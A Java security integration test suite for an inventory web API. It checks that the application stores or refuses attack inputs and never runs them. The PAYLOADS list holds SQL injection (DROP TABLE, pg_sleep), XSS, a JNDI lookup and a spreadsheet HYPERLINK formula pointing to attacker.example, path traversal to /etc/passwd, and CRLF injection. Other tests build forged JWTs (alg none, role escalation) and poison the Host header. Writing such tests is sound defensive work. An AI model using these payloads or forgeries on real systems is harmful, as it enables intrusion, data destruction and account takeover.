package io.stockade.webapp.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.stockade.platform.config.StockadeProperties;
import io.stockade.webapp.support.Api;
import io.stockade.webapp.support.ApiTestBase;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Attacks on the running application. Every case asserts the exact status and that nothing
 * changed: injection strings in every text field and query parameter are stored verbatim or
 * refused, never executed and never a 500; forged tokens; requests across roles and
 * organisations; oversized, malformed and deeply nested bodies; header tricks.
 */
class AttackSuiteIT extends ApiTestBase {
    private static final ObjectMapper JSON = new ObjectMapper();
    static final List<String> PAYLOADS = List.of(
            "' OR '1'='1",
            "'; DROP TABLE read.inventory_item; --",
            "Robert'); DROP TABLE command.user_account;--",
            "1; SELECT pg_sleep(5)",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(document.cookie)>",
            "javascript:alert(1)",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}${7*7}#{7*7}",
            "../../../../etc/passwd",
            "=HYPERLINK(\"http://attacker.example\",\"x\")",
            "\u202Egnp.exe",
            "ÆØÅ 日本語 😀",
            "%00%0d%0aSet-Cookie: a=b");

    @Autowired
    StockadeProperties properties;

    private long itemCount() {
        return admin().get("/api/inventory?limit=1")
                .body()
                .at("/pagination/total")
                .asLong();
    }

    @Test
    void shouldStoreInjectionStringsInItemFieldsVerbatim() {
        for (String p : PAYLOADS) {
            Map<String, Object> body = new HashMap<>();
            body.put("name", "N " + p);
            body.put("location", "L " + p);
            body.put("shelf", p.length() > 50 ? p.substring(0, 50) : p);
            body.put("description", "D " + p);
            body.put("currentStock", 3);
            long t0 = System.nanoTime();
            Api.Response created = admin().post("/api/inventory", body);
            assertThat((System.nanoTime() - t0) / 1_000_000)
                    .as("pg_sleep never ran")
                    .isLessThan(4_000);
            assertThat(created.status()).as(p + " -> " + created).isEqualTo(201);
            JsonNode item = admin().get(
                            "/api/inventory/" + created.at("/item/id").asText())
                    .body()
                    .get("item");
            assertThat(item.get("name").asText()).isEqualTo("N " + p);
            assertThat(item.get("location").asText()).isEqualTo("L " + p);
            assertThat(item.get("description").asText()).isEqualTo("D " + p);

            Api.Response adjusted = admin().post(
                            "/api/inventory/" + item.get("id").asText() + "/stock",
                            Map.of("quantity", 1, "reason", p, "type", "deduction"));
            assertThat(adjusted.status()).as(adjusted.toString()).isEqualTo(200);
        }
        assertThat(admin().get("/api/inventory?limit=1").status())
                .as("the tables are all still there")
                .isEqualTo(200);
    }

    @Test
    void shouldRefuseANulCharacterWithA400AndStoreNothing() {
        long before = itemCount();
        Api.Response r =
                admin().post("/api/inventory", Map.of("name", "nul\u0000byte", "location", "A", "currentStock", 1));
        assertThat(r.status()).as(r.toString()).isEqualTo(400);
        assertThat(r.body().at("/errors/0/field").asText()).isEqualTo("name");
        assertThat(admin().get("/api/inventory?search=a%00b").status()).isEqualTo(400);
        assertThat(itemCount()).isEqualTo(before);
    }

    @Test
    void shouldNeverFailOnInjectionStringsInQueryParameters() {
        for (String p : PAYLOADS) {
            String q = URLEncoder.encode(p, StandardCharsets.UTF_8);
            assertThat(admin().get("/api/inventory?search=" + q).status())
                    .as("search " + p)
                    .isEqualTo(200);
            assertThat(admin().get("/api/users/lookup?search=" + q).status())
                    .as("lookup " + p)
                    .isIn(200, 400);
            assertThat(admin().get("/api/inventory?sort=" + q).status())
                    .as("sort " + p)
                    .isEqualTo(400);
            assertThat(admin().get("/api/inventory?status=" + q).status())
                    .as("status " + p)
                    .isEqualTo(400);
            assertThat(admin().get("/api/inventory?page=" + q).status())
                    .as("page " + p)
                    .isEqualTo(400);
            assertThat(admin().get("/api/inventory?category=" + q).status())
                    .as("category " + p)
                    .isEqualTo(400);
            assertThat(admin().get("/api/transactions?productId=" + q).status())
                    .as("productId " + p)
                    .isEqualTo(400);
            assertThat(admin().get("/api/transactions?dateFrom=" + q).status())
                    .as("dateFrom " + p)
                    .isEqualTo(400);
            assertThat(admin().get("/api/security/events?type=" + q).status())
                    .as("type " + p)
                    .isEqualTo(400);
            assertThat(admin().get("/api/security/events?userId=" + q).status())
                    .as("userId " + p)
                    .isEqualTo(400);
            assertThat(admin().get("/api/security/events?from=" + q).status())
                    .as("from " + p)
                    .isEqualTo(400);
            assertThat(admin().get("/api/admin/outbox?status=" + q).status())
                    .as("outbox " + p)
                    .isEqualTo(400);
            int barcode = admin().get("/api/inventory/barcode/" + q).status();
            assertThat(barcode).as("barcode " + p).isIn(400, 404);
        }
    }

    @Test
    void shouldRefuseInjectionInIdentityFieldsWithoutSideEffects() {
        for (String p : PAYLOADS) {
            Api.Response login = anonymous().post("/api/auth/login", Map.of("username", p, "password", p));
            assertThat(login.status()).as(p).isIn(400, 401);
            Api.Response register = admin().post(
                            "/api/auth/register",
                            Map.of("username", p, "email", p, "password", PASSWORD, "role", "Staff"));
            assertThat(register.status()).as(p).isEqualTo(400);
            assertThat(anonymous()
                            .post("/api/auth/password-reset", Map.of("email", p))
                            .status())
                    .as(p)
                    .isEqualTo(400);
            Api.Response category = admin().post("/api/categories", Map.of("name", "C " + p + " " + UUID.randomUUID()));
            assertThat(category.status()).as(p + " " + category).isIn(201, 400);
        }
        assertThat(admin().get("/api/users").body().get("users").toString()).doesNotContain("DROP TABLE");
    }

    @Test
    void shouldRefuseForgedTokens() {
        String real = admin().token();
        String[] parts = real.split("\\.");
        String payload = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8);
        Base64.Encoder b64 = Base64.getUrlEncoder().withoutPadding();
        String none = b64.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes()) + "." + parts[1] + ".";
        String staff = staff().token();
        String[] sp = staff.split("\\.");
        String escalated = sp[0] + "."
                + b64.encodeToString(new String(Base64.getUrlDecoder().decode(sp[1]), StandardCharsets.UTF_8)
                        .replace("\"role\":\"Staff\"", "\"role\":\"Admin\"")
                        .getBytes(StandardCharsets.UTF_8))
                + "." + sp[2];
        String wrongAudience = parts[0] + "."
                + b64.encodeToString(
                        payload.replace("stockade-api", "other-api").getBytes(StandardCharsets.UTF_8)) + "." + parts[2];
        String hs256 = b64.encodeToString("{\"alg\":\"HS256\",\"typ\":\"JWT\"}".getBytes()) + "." + parts[1] + "."
                + b64.encodeToString(new byte[32]);
        for (String forged : List.of(none, escalated, wrongAudience, hs256, "garbage", real + "x", "")) {
            Api.Response r = new Api(port).as(forged).get("/api/users");
            assertThat(r.status()).as(forged).isEqualTo(401);
            assertThat(r.body().get("type").asText()).endsWith("/unauthorized");
        }
        assertThat(new Api(port)
                        .as(escalated)
                        .post(
                                "/api/auth/register",
                                Map.of(
                                        "username",
                                        "escalated-"
                                                + UUID.randomUUID().toString().substring(0, 6),
                                        "email",
                                        "e@example.test",
                                        "password",
                                        PASSWORD,
                                        "role",
                                        "Admin"))
                        .status())
                .isEqualTo(401);
    }

    @Test
    void shouldKeepRolesAndOrganisationsApart() {
        JsonNode item = createItem("IDOR target " + UUID.randomUUID(), 10, 2);
        String id = item.get("id").asText();
        String adminId = admin().get("/api/auth/me").at("/user/id").asText();

        Map<String, Integer> staffForbidden = Map.of(
                "/api/users",
                403,
                "/api/admin/outbox",
                403,
                "/api/security/events",
                403,
                "/api/admin/security-policy",
                403,
                "/health/detailed",
                403);
        staffForbidden.forEach((path, status) ->
                assertThat(staff().get(path).status()).as(path).isEqualTo(status));
        assertThat(auditor().get("/api/security/events").status()).isEqualTo(200);
        assertThat(auditor()
                        .post("/api/inventory", Map.of("name", "x", "location", "y"))
                        .status())
                .isEqualTo(403);
        assertThat(auditor()
                        .post(
                                "/api/inventory/" + id + "/stock",
                                Map.of("quantity", 1, "reason", "r", "type", "addition"))
                        .status())
                .isEqualTo(403);
        assertThat(staff().put("/api/users/" + adminId, Map.of("role", "Staff")).status())
                .isEqualTo(403);
        assertThat(manager().delete("/api/users/" + adminId + "/sessions").status())
                .isEqualTo(403);
        assertThat(staff().delete("/api/inventory/" + id).status()).isEqualTo(403);

        Api other = otherOrganisationAdmin();
        assertThat(other.get("/api/inventory/" + id).status()).isEqualTo(404);
        assertThat(other.put("/api/inventory/" + id, Map.of("name", "stolen")).status())
                .isEqualTo(404);
        assertThat(other.post(
                                "/api/inventory/" + id + "/stock",
                                Map.of("quantity", 1, "reason", "r", "type", "deduction"))
                        .status())
                .isEqualTo(404);
        assertThat(other.put("/api/users/" + adminId, Map.of("role", "Staff")).status())
                .isEqualTo(404);
        assertThat(other.delete("/api/users/" + adminId + "/sessions").status()).isEqualTo(404);

        JsonNode after = admin().get("/api/inventory/" + id).body().get("item");
        assertThat(after.get("name").asText()).isEqualTo(item.get("name").asText());
        assertThat(after.get("currentStock").asInt()).isEqualTo(10);
        assertThat(admin().get("/api/auth/me").at("/user/role").asText()).isEqualTo("Admin");
    }

    @Test
    void shouldRefuseOversizedMalformedAndNestedBodies() {
        long before = itemCount();
        String big = "{\"name\":\"" + "x".repeat(3 * 1024 * 1024) + "\",\"location\":\"A\"}";
        assertThat(admin().postRaw("/api/inventory", "application/json", big).status())
                .isEqualTo(413);
        assertThat(admin().postRaw("/api/inventory", "application/json", "{\"name\":\"a\",")
                        .status())
                .isEqualTo(400);
        assertThat(admin().postRaw("/api/inventory", "application/json", "[1,2,3]")
                        .status())
                .isEqualTo(400);
        assertThat(admin().postRaw("/api/inventory", "text/plain", "name=a").status())
                .isEqualTo(415);
        assertThat(admin().postRaw(
                                "/api/inventory",
                                "application/json",
                                "{\"name\":\"a\",\"location\":\"b\",\"currentStock\":1e309}")
                        .status())
                .isEqualTo(400);
        assertThat(admin().postRaw(
                                "/api/inventory",
                                "application/json",
                                "{\"name\":\"a\",\"location\":\"b\",\"isAdmin\":true}")
                        .status())
                .isEqualTo(400);
        String nested = "{\"name\":" + "[".repeat(5000) + "]".repeat(5000) + "}";
        assertThat(admin().postRaw("/api/inventory", "application/json", nested).status())
                .isEqualTo(400);
        Api.Response longName = admin().post("/api/inventory", Map.of("name", "n".repeat(256), "location", "A"));
        assertThat(longName.status()).isEqualTo(400);
        assertThat(longName.body().at("/errors/0/field").asText()).isEqualTo("name");
        assertThat(itemCount()).as("nothing was created").isEqualTo(before);
    }

    @Test
    void shouldNotReflectHeadersOrTrustTheHostHeader() throws Exception {
        Api.Response r = admin().post(
                        "/api/inventory/not-a-uuid/stock",
                        Map.of("quantity", 1, "reason", "r", "type", "addition"),
                        Map.of("X-Request-Id", "<script>alert(1)</script>"));
        assertThat(r.status()).isEqualTo(400);
        assertThat(r.header("X-Request-Id")).doesNotContain("<");
        assertThat(r.raw()).doesNotContain("<script>");

        // A reset link is built from the configured public address, never from the request's Host header.
        String username = "host-" + UUID.randomUUID().toString().substring(0, 8);
        admin().post(
                        "/api/auth/register",
                        Map.of(
                                "username",
                                username,
                                "email",
                                username + "@example.test",
                                "password",
                                PASSWORD,
                                "role",
                                "Staff"));
        String body = "{\"email\":\"" + username + "@example.test\"}";
        try (Socket socket = new Socket("127.0.0.1", port)) {
            OutputStream out = socket.getOutputStream();
            out.write(
                    ("POST /api/auth/password-reset HTTP/1.1\r\nHost: attacker.example\r\nX-Forwarded-Host: attacker.example\r\n"
                                    + "Content-Type: application/json\r\nContent-Length: " + body.length()
                                    + "\r\nConnection: close\r\n\r\n" + body)
                            .getBytes(StandardCharsets.UTF_8));
            out.flush();
            InputStream in = socket.getInputStream();
            assertThat(new String(in.readAllBytes(), StandardCharsets.UTF_8)).startsWith("HTTP/1.1 202");
        }
        Path mail = properties.dataDir().resolve("mail");
        Awaitility.await().atMost(Duration.ofSeconds(20)).until(() -> {
            if (!Files.isDirectory(mail)) {
                return false;
            }
            try (Stream<Path> files = Files.list(mail)) {
                return files.anyMatch(f -> {
                    try {
                        String eml = Files.readString(f);
                        return eml.contains("To: " + username + "@example.test");
                    } catch (IOException e) {
                        return false;
                    }
                });
            }
        });
        try (Stream<Path> files = Files.list(mail)) {
            for (Path f : files.toList()) {
                String eml = Files.readString(f);
                if (eml.contains("To: " + username + "@example.test")) {
                    assertThat(eml)
                            .contains("http://localhost:8080/reset-password#token=")
                            .doesNotContain("attacker.example");
                }
            }
        }
    }

    /**
     * Sends a request line as written (HTTP clients would normalise these paths before sending them), as
     * HTTP/1.0 so that the answer comes unchunked.
     */
    private String raw(String method, String target, String headers) throws IOException {
        return raw(method, target, "localhost", headers);
    }

    private String raw(String method, String target, String host, String headers) throws IOException {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            OutputStream out = socket.getOutputStream();
            out.write((method + " " + target + " HTTP/1.0\r\nHost: " + host + "\r\n" + headers
                            + "Connection: close\r\n\r\n")
                    .getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    @Test
    void shouldAnswerProblemJsonEvenForRequestsRefusedBeforeTheApplication() throws Exception {
        Map<String, String> expected = Map.of(
                "/api/..%2finventory", "400",
                "/api/inventory/%00", "400",
                "/%2e%2e/%2e%2e/etc/passwd", "400",
                "/WEB-INF/web.xml", "404",
                "/META-INF/MANIFEST.MF", "404",
                "/api/inventory", "401");
        for (Map.Entry<String, String> e : expected.entrySet()) {
            String answer = raw("GET", e.getKey(), "");
            assertThat(answer).as(e.getKey()).matches("(?s)HTTP/1\\.[01] " + e.getValue() + " .*");
            String head = answer.substring(0, answer.indexOf("\r\n\r\n")).toLowerCase(Locale.ROOT);
            String body = answer.substring(answer.indexOf("\r\n\r\n") + 4);
            assertThat(head).as(e.getKey()).contains("content-type: application/problem+json");
            assertThat(head).as(e.getKey()).contains("x-content-type-options: nosniff");
            JsonNode problem = JSON.readTree(body);
            assertThat(problem.path("status").asInt()).as(e.getKey()).isEqualTo(Integer.parseInt(e.getValue()));
            assertThat(problem.path("type").asText()).startsWith("https://stockade.io/problems/");
            assertThat(problem.path("instance").asText()).as(e.getKey()).isEqualTo(e.getKey());
            assertThat(problem.has("title") && problem.has("detail") && problem.has("message"))
                    .isTrue();
            assertThat(body).as(e.getKey()).doesNotContainIgnoringCase("tomcat").doesNotContain("timestamp");
        }
    }

    @Test
    void shouldNeverTakeTheApiDocumentsServerFromTheHostHeader() throws Exception {
        String answer = raw("GET", "/api/docs", "X-Forwarded-Host: attacker.example\r\n");
        String forged = raw("GET", "/api/docs", "attacker.example", "");
        for (String a : List.of(answer, forged)) {
            assertThat(a).matches("(?s)HTTP/1\\.[01] 200 .*");
            JsonNode document = JSON.readTree(a.substring(a.indexOf("\r\n\r\n") + 4));
            assertThat(document.at("/servers/0/url").asText()).isEqualTo("http://localhost:8080");
            assertThat(document.at("/info/title").asText()).isEqualTo("Stockade API");
            assertThat(a).doesNotContain("attacker.example");
        }
    }

    @Test
    void shouldNameTheRequestInEveryProblemAnsweredBeforeSpringMvc() throws Exception {
        // 401 from the security chain's entry point, 413 from the body-size filter.
        String unauthorised = raw("GET", "/api/dashboard/metrics", "");
        assertThat(unauthorised).matches("(?s)HTTP/1\\.[01] 401 .*");
        assertThat(JSON.readTree(unauthorised.substring(unauthorised.indexOf("\r\n\r\n") + 4))
                        .path("instance")
                        .asText())
                .isEqualTo("/api/dashboard/metrics");
        String body = "{\"name\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}";
        Api.Response tooLarge = admin().postRaw("/api/inventory", "application/json", body, Map.of());
        assertThat(tooLarge.status()).isEqualTo(413);
        assertThat(tooLarge.body().path("instance").asText()).isEqualTo("/api/inventory");
    }
}
